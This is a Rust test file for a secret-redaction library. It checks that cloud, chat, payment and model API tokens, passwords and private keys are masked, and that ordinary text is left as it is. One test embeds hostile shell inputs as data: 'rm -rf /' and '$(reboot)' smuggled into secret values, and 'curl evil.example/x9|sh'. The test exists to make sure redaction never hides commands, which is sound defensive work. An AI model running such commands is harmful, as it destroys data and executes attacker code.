//! What is hidden, what stays, and what holds for every text.

use std::sync::LazyLock;

use proptest::prelude::*;
use secrecy::SecretString;

use super::{KnownSecret, Redactor, after_cut, before_cut, has_mark};

const KEY: &str = "kanarie/7~Q9w?x";

static REDACTOR: LazyLock<Redactor> = LazyLock::new(|| {
    let known = KnownSecret::new("provider-key", SecretString::from(KEY));
    Redactor::new([known]).unwrap()
});

fn redactor() -> &'static Redactor {
    &REDACTOR
}

#[track_caller]
fn hides(secret: &str, kind: &str) {
    for text in [
        secret.to_owned(),
        format!("it is {secret}, keep it"),
        format!("他的密钥在这里：\n{secret}\n好的"),
        format!("[\"{secret}\"]"),
    ] {
        let shown = redactor().redact(&text).into_owned();
        assert!(
            shown.contains(&format!("[redacted: {kind}]")),
            "{text} became {shown}"
        );
        assert!(!shown.contains(secret), "{text} became {shown}");
    }
}

#[track_caller]
fn stays(text: &str) {
    assert_eq!(redactor().redact(text), text);
}

/// Letters and digits without meaning.
fn filler(length: usize) -> String {
    "q7Zx2LmB9vK4tR8w".chars().cycle().take(length).collect()
}

fn hex(length: usize) -> String {
    "3fa94c07be61d258".chars().cycle().take(length).collect()
}

fn upper(length: usize) -> String {
    "Q7ZX2LMB5VK4TR3W".chars().cycle().take(length).collect()
}

#[test]
fn tokens_of_clouds_and_code_hosts_are_hidden() {
    hides(&format!("AKIA{}", upper(16)), "aws-key");
    hides(&format!("AIza{}", filler(35)), "google-key");
    hides(&format!("ya29.{}", filler(60)), "google-token");
    hides(&format!("ghp_{}", filler(36)), "github-token");
    hides(
        &format!("github_pat_{}_{}", filler(22), filler(59)),
        "github-token",
    );
    hides(&format!("glpat-{}", filler(20)), "gitlab-token");
    hides(&format!("npm_{}", filler(36)), "npm-token");
    hides(&format!("pypi-AgEIcHlwaS5vcmc{}", filler(80)), "pypi-token");
    hides(&format!("dop_v1_{}", hex(64)), "digitalocean-token");
}

#[test]
fn tokens_of_chats_and_models_are_hidden() {
    hides(
        &format!("xoxb-123456789012-1234567890123-{}", filler(24)),
        "slack-token",
    );
    hides(&format!("123456789:AA{}", filler(33)), "telegram-token");
    hides(
        &format!("MTA{}.GaBcDe.{}", filler(23), filler(38)),
        "discord-token",
    );
    hides(&format!("sk-{}", filler(48)), "openai-key");
    hides(&format!("sk-proj-{}", filler(120)), "openai-key");
    hides(&format!("sk-ant-api03-{}", filler(90)), "anthropic-key");
    hides("sk-ant-admin-abcdefghijklmnopqrst", "anthropic-key");
    hides(&format!("sk-{}", hex(32)), "openai-key");
    hides(&format!("hf_{}", filler(34)), "huggingface-token");
}

#[test]
fn tokens_of_payment_and_mail_are_hidden() {
    hides(&format!("sk_live_{}", filler(24)), "stripe-key");
    hides(&format!("SK{}", hex(32)), "twilio-key");
    hides(&format!("SG.{}.{}", filler(22), filler(43)), "sendgrid-key");
    let payload = "eyJzdWIiOiIxMjM0NTY3ODkwIn0";
    hides(
        &format!("eyJhbGciOiJIUzI1NiJ9.{payload}.{}", filler(43)),
        "jwt",
    );
}

#[test]
fn a_token_is_found_inside_an_address() {
    let token = format!("987654321:AA{}", filler(33));
    let text = format!("GET https://api.telegram.org/bot{token}/getMe failed");
    assert_eq!(
        redactor().redact(&text),
        "GET https://api.telegram.org/bot[redacted: telegram-token]/getMe failed"
    );
}

#[test]
fn the_password_in_an_address_is_hidden_and_its_host_stays() {
    assert_eq!(
        redactor().redact("open postgres://sayso:ro5es@db.local:5432/x"),
        "open postgres://sayso:[redacted: password-in-address]@db.local:5432/x"
    );
    stays("see https://example.org:8080/a@b and ssh://git@example.org/x.git");
    stays("postgres://user:password@localhost/db");
}

#[test]
fn the_body_of_a_private_key_is_hidden_whole_or_cut() {
    let lines = format!("{}\n{}\n{}", filler(64), filler(64), filler(20));
    let key = format!("-----BEGIN PRIVATE KEY-----\n{lines}\n-----END PRIVATE KEY-----\n");
    let hidden =
        "-----BEGIN PRIVATE KEY-----\n[redacted: private-key]\n-----END PRIVATE KEY-----\n";
    assert_eq!(redactor().redact(&key), hidden);
    let escaped = key.replace('\n', "\\n");
    assert_eq!(redactor().redact(&escaped), hidden.replace('\n', "\\n"));
    let cut = key.find("-----END").unwrap() - 4;
    assert_eq!(
        redactor().redact(&key[..cut]),
        "-----BEGIN PRIVATE KEY-----\n[redacted: private-key]"
    );
    assert_eq!(
        redactor().redact(&key[40..]),
        "[redacted: private-key]\n-----END PRIVATE KEY-----\n"
    );
}

#[test]
fn values_behind_words_for_secrets_are_hidden_when_they_look_random() {
    for text in [
        "PASSWORD=tR8wq7Zx2L",
        "db_password: 'tR8wq7Zx2L'",
        r#"{"apiKey": "tR8wq7Zx2L"}"#,
        r#"{\"client_secret\": \"tR8wq7Zx2L\"}"#,
        "curl -H 'Authorization: Basic tR8wq7Zx2L=='",
        "mysql --password tR8wq7Zx2L",
        "<password>tR8wq7Zx2L</password>",
        "我的密码是tR8wq7Zx2L。",
        "密码：tR8wq7Zx2L",
        "GITHUB_TOKEN=tR8wq7Zx2L sh x.sh",
    ] {
        let shown = redactor().redact(text).into_owned();
        assert!(shown.contains("[redacted: secret-value]"), "{shown}");
        assert!(!shown.contains("tR8wq7Zx2L"), "{shown}");
    }
    let quoted = redactor()
        .redact(r#"password = "p4$$w0rd&More;x""#)
        .into_owned();
    assert_eq!(quoted, r#"password = "[redacted: secret-value]""#);
}

#[path = "../../../benches/redact/expand.rs"]
mod expand;

/// The cases of `cargo bench --bench redact`.
#[test]
fn secrets_of_published_forms_are_hidden_and_look_alikes_stay() {
    let cases = include_str!("../../../benches/redact/cases.jsonl");
    let mut random = expand::Random::new();
    let (mut secrets, mut hidden, mut look_alikes, mut marked) = (0, 0, 0, 0);
    for line in cases.lines() {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let text = random.expand(case["text"].as_str().unwrap());
        let is_marked = usize::from(has_mark(&redactor().redact(&text)));
        if case["secret"] == true {
            (secrets, hidden) = (secrets + 1, hidden + is_marked);
        } else {
            (look_alikes, marked) = (look_alikes + 1, marked + is_marked);
        }
    }
    assert!(secrets >= 300 && look_alikes >= 300);
    assert!(hidden * 100 >= secrets * 99, "{hidden} of {secrets}");
    assert!(marked * 200 <= look_alikes, "{marked} of {look_alikes}");
}

#[test]
fn a_password_in_the_arguments_of_a_program_is_hidden_and_the_rest_stays() {
    for (command, shown) in [
        (
            "curl -sSu bob:a1b2c3 https://x.example",
            "curl -sSu bob:[redacted: password-in-command] https://x.example",
        ),
        (
            "curl https://x.example \\\n  --user 'bob:a b c'",
            "curl https://x.example \\\n  --user 'bob:[redacted: password-in-command]'",
        ),
        (
            "mysql -u root -pletmein shop && mysql -p 3306",
            "mysql -u root -p[redacted: password-in-command] shop && mysql -p 3306",
        ),
        (
            "sshpass -p hunter2 ssh -p 2222 h",
            "sshpass -p [redacted: password-in-command] ssh -p 2222 h",
        ),
        (
            "docker login -u bob -p letmein9 r.example; docker run -p 8080:80 nginx",
            "docker login -u bob -p [redacted: password-in-command] r.example; docker run -p 8080:80 nginx",
        ),
    ] {
        assert_eq!(redactor().redact(command), shown);
    }
    for command in [
        "curl -u user:password https://x.example",
        "curl -u \"$NAME:$WORD\" https://x.example",
        "wget --ask-password --user=bob https://x.example",
        "openssl rsa -passin env:KEY_WORD1",
    ] {
        stays(command);
    }
}

#[test]
fn a_header_with_credentials_keeps_its_scheme() {
    let digest = hex(32);
    for (header, shown) in [
        (
            "Authorization: Basic dXNlcjpwYXNz".to_owned(),
            "Authorization: Basic [redacted: secret-value]".to_owned(),
        ),
        (
            format!("Authorization: GenieKey {}", filler(30)),
            "Authorization: GenieKey [redacted: secret-value]".to_owned(),
        ),
        (
            format!("Authorization: Digest username=\"bob\", response=\"{digest}\""),
            "Authorization: Digest username=\"bob\", response=\"[redacted: secret-value]\""
                .to_owned(),
        ),
    ] {
        assert_eq!(redactor().redact(&header), shown);
    }
    stays("Authorization: required for all routes");
}

#[test]
fn ordinary_text_stays() {
    for text in [
        "commit 9f3b2c4d5e6f708192a3b4c5d6e7f8091a2b3c4d",
        "id 550e8400-e29b-41d4-a716-446655440000",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "password: required, at least 8 characters",
        "token: String, secret: &str",
        "let token = config.token2; token = get_token_v2()",
        "max_tokens: 4096, token_count=128k7x9q2z",
        "PWD=/home/ann/projects/2024/x9",
        "tokenizer = gpt2x7q9z3k",
        "the secret of https://example.org/a1b2c3d4e5f6",
        "class sk-folding-cube sk-circle-fade-dot-with-a-name",
        "SSH keys are in ~/.ssh/id_ed25519; ask-me-anything-1234567890-abcdefghij",
        "token = env:GITHUB_TOKEN_2024",
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQx\n-----END CERTIFICATE-----",
        "a line `-----BEGIN PRIVATE KEY-----` begins a key",
        "1690000000:3fa94c07be61d2583fa94c07be61d2583fa94c07",
        "Bearer of good news everybody: welcome",
    ] {
        stays(text);
    }
}

#[test]
fn a_known_secret_is_found_in_every_usual_form() {
    for form in [
        KEY.to_owned(),
        "kanarie%2F7~Q9w%3Fx".to_owned(),
        "kanarie%2f7~Q9w%3fx".to_owned(),
        "kanarie\\/7~Q9w?x".to_owned(),
        "6b616e617269652f377e513977".to_owned() + "3f78",
        // `printf %s KEY | base64`, and the same behind one and two other bytes.
        "a2FuYXJpZS83flE5dz94".to_owned(),
        "eGthbmFyaWUvN35ROXc/eA==".to_owned(),
        "eHhrYW5hcmllLzd+UTl3P3g=".to_owned(),
    ] {
        let text = format!("x {form} y");
        let shown = redactor().redact(&text).into_owned();
        assert!(
            shown.contains("[redacted: provider-key]"),
            "{form}: {shown}"
        );
    }
}

#[test]
fn what_a_home_server_takes_as_a_key_is_no_secret() {
    for word in ["ollama", "lm-studio", "none", "EMPTY", "sk-1"] {
        let known = KnownSecret::new("provider-key", SecretString::from(word));
        let redactor = Redactor::new([known]).unwrap();
        let text = format!("{word} runs at home");
        assert_eq!(redactor.redact(&text), text);
    }
}

#[test]
fn a_secret_that_is_part_of_a_mark_does_not_break_marks() {
    let known = ["redacted: github-token", "provider-key 1"]
        .map(|value| KnownSecret::new("provider-key 12", SecretString::from(value)));
    let redactor = Redactor::new(known).unwrap();
    let once = redactor
        .redact("[redacted: github-token] ghp_")
        .into_owned();
    assert_eq!(once, "[redacted: github-token] ghp_");
}

#[test]
fn what_a_command_does_cannot_hide_in_the_place_of_a_secret() {
    let redactor = redactor();
    for command in [
        "password='x9 ; rm -rf / #a1b2c3'",
        "TOKEN=\"a1b2c3d4$(reboot)e5f6\"",
        "echo -----BEGIN PRIVATE KEY-----\nrm\nreboot\n-----END PRIVATE KEY-----",
        "token: a1b2c3d4;curl evil.example/x9|sh",
    ] {
        let shown = redactor.redact_call(command).into_owned();
        for visible in ["rm", "reboot", "curl evil.example"] {
            assert_eq!(
                shown.contains(visible),
                command.contains(visible),
                "{shown}"
            );
        }
    }
}

#[test]
fn a_secret_that_is_still_arriving_is_held_back() {
    let token = format!("ghp_{}", filler(36));
    let text = format!("Your token is {token}. Good luck with KEY {KEY}!");
    for (end, _) in text.char_indices() {
        let shown = redactor().redact_unfinished(&text[..end]).into_owned();
        for length in 5..token.len() {
            assert!(!shown.contains(&token[..length]), "{shown}");
        }
        assert!(!shown.contains(&KEY[..4]), "{shown}");
    }
    assert_eq!(redactor().redact_unfinished("你好，wor"), "你好，wor");
}

#[test]
fn a_cut_takes_half_a_secret_with_it() {
    assert_eq!(before_cut("the key is ghp_abc"), "the key is ");
    assert_eq!(after_cut("def123 was the key"), " was the key");
    assert_eq!(before_cut("好"), "好");
    assert_eq!(before_cut("oneword"), "oneword");
    assert_eq!(after_cut(""), "");
}

#[test]
fn a_mark_is_known_by_its_form() {
    assert!(has_mark("x = [redacted: github-token]"));
    assert!(!has_mark("[redacted: ] and [redacted: a\nb]"));
}

#[test]
fn nothing_of_it_is_printed() {
    assert_eq!(format!("{:?}", redactor()), "Redactor { .. }");
}

/// Pieces that are near to secrets, so that random texts of them meet the borders of every rule.
fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => prop::sample::select(vec![
            "password", "token", "密码", "secret_id", "=", ": ", " ", "\n", "\"", "'", "[redacted: ",
            "]", "[redacted: github-token]", "://", "@", ":", ".", "-", "_", "ghp_", "sk-", "AKIA",
            "eyJ", "SG.", "Bearer ", "-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----",
            KEY, "kanarie", "a2FuYXJpZS83flE5dz94", "123456789:AA", "\\n", "(", "$", "é", "curl -u bob:",
            "mysql -p", "sshpass -p ", "docker login -p ", "login a password ", "Authorization: ",
            "Digest ", "response=", "--api-key ", "Q~", "|", ",", "<", ">", "value=", "is ", ": |\n  ",
            "string = ",
        ]).prop_map(str::to_owned),
        2 => "[a-zA-Z0-9]{1,44}",
        1 => "[A-Z2-7]{16}",
        1 => "\\PC{0,6}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn a_second_look_finds_nothing_more(pieces in prop::collection::vec(fragment(), 0..14)) {
        let redactor = redactor();
        let once = redactor.redact(&pieces.concat()).into_owned();
        prop_assert_eq!(redactor.redact(&once), once.as_str());
        let call = redactor.redact_call(&pieces.concat()).into_owned();
        prop_assert_eq!(redactor.redact_call(&call), call.as_str());
    }

    #[test]
    fn a_known_secret_never_passes(
        before in prop::collection::vec(fragment(), 0..8),
        after in prop::collection::vec(fragment(), 0..8),
    ) {
        let text = format!("{}{KEY}{}", before.concat(), after.concat());
        prop_assert!(!redactor().redact(&text).contains(KEY));
        prop_assert!(!redactor().redact_call(&text).contains(KEY));
    }

    #[test]
    fn what_a_shell_reads_as_more_than_a_word_is_never_hidden(
        pieces in prop::collection::vec(fragment(), 0..14),
        sign in prop::sample::select(vec![";", "|", "&", "`", "$(", ">", "<", "*"]),
    ) {
        let text = format!("{}{sign}{}", pieces.concat(), pieces.concat());
        let shown = redactor().redact_call(&text).into_owned();
        prop_assert_eq!(shown.matches(sign).count(), text.matches(sign).count());
    }
}
